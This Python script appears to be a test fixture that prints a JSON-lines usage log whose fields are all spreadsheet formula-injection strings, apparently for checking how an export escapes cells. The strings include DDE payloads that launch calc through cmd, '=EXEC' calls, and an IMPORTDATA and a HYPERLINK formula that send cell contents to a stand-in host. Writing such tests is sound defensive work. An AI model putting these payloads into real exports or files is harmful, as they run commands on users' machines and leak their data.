#!/usr/bin/env python3
"""Prints a log whose models, tools, features and items are cells that a spreadsheet may run."""

import json

CELLS = [
    "=2+5+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0", "=IMPORTDATA(\"http://x.example/\")",
    "=HYPERLINK(\"http://x.example?leak=\"&A1,\"click\")", "@SUM(A1:A9)", "+A1", "-A1", "\r=1+1", "\n=1+1", "\u3000=1+1",
    "\uff1d1+1", "\uff0d1+1", "\"=1+1\"", "x\t=1+1", "=\n1+1", "=LAMBDA(x,x)(1)", "=EXEC(\"calc\")", "|=1+1", "=", "-", "=-",
    "+49 30 123456", "=)", "--dry-run", "5-3", "x@y.example", "1/2", "00123", "9007199254740993", "a,b", "_x0041_", "'quoted",
]
for place, cell in enumerate(CELLS):
    print(json.dumps({
        "trace_id": f"t{place}", "event_id": "e", "timestamp": "2026-11-16T09:00:00Z", "stage": "model", "status": "ok",
        "context": {"feature": cell, "route": cell}, "model": {"provider": cell, "name": cell},
        "charges": [{"source": "model", "item": cell, "quantity": 3, "unit": cell, "unit_price": "0.1", "amount": "0.3", "currency": "USD"}],
    }))
    print(json.dumps({
        "trace_id": f"t{place}", "event_id": "f", "timestamp": "2026-11-16T09:00:01Z", "stage": "tool", "status": "ok",
        "tool": {"name": cell}, "charges": [{"source": "tool", "amount": "-0.05"}],
    }))
